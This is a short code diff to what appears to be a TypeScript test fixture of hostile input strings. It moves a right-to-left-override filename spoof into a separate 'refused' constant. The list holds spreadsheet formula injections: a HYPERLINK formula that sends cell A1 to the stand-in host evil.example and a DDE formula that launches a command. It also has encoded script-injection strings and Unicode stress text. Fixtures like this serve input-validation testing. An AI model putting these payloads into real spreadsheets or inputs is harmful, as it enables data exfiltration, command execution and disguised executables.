@@ -61,8 +61,10 @@ export const payloads: readonly string[] = [
   `=HYPERLINK("http://evil.example?"&A1,"x")`,
   `=cmd|' /C calc'!A0`,
   `+1+1@SUM(1+1)*cmd`,
-  `abc\u202e${'txt.exe'}\u202c`,
   `ﷺ مرحبا שלום ${'\u0301'.repeat(60)} \u200f\u200d\u{1F468}\u200d\u{1F469}`,
   `${'\u{1D518}'.repeat(40)} ${'W'.repeat(120)}`,
   `%3Cscript%3E${run}%3C/script%3E &lt;script&gt;${run}&lt;/script&gt; \\u003cscript\\u003e`,
 ];
+
+/** Text that reads otherwise than it is written: it is refused wherever it is sent. */
+export const refused = 'abc\u202etxt.exe\u202c';
